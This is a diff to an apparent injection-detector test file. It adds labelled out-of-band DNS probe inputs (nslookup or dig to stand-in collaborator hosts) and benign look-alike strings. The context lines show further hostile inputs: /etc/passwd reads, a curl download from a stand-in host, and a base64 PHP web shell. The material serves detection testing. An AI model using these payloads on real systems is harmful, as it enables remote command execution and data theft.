@@ -142,6 +142,10 @@ CASES = [
     ("query", ";{cat,/etc/passwd}", "shell_obfuscated_command"),
     ("query", ";curl -o /tmp/a http://x.example.com/a", "shell_command"),
     ("query", ";/bin/ca? /etc/pa??wd", "shell_command"),
+    # an out-of-band probe: the name a command resolves tells the tester that it ran
+    ("query", "a|nslookup x7f3.collab.example", "shell_probe"),
+    ("query", ";nslookup -type=txt x.oast.example", "shell_probe"),
+    ("query", "|dig @8.8.8.8 x.oast.example", "shell_probe"),
     ("query", "subprocess.Popen(['id'])", "python_command_call"),
     # PHP as base64 for an include; objects built by YAML or a pickle
     ("query", "data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "php_code"),
@@ -309,6 +313,7 @@ BENIGN = [
     "top[3] (of 10)", "C:\\new\\folder", "the id", "a\\nb",
     "Every object has a __proto__ property", "d.__proto__ = b; // set the prototype",
     "The constructor property of Foo.prototype points back to Foo",
+    "dog;dig hole", "use nslookup example.com to check", "a;nslookup",
 ]
 
 
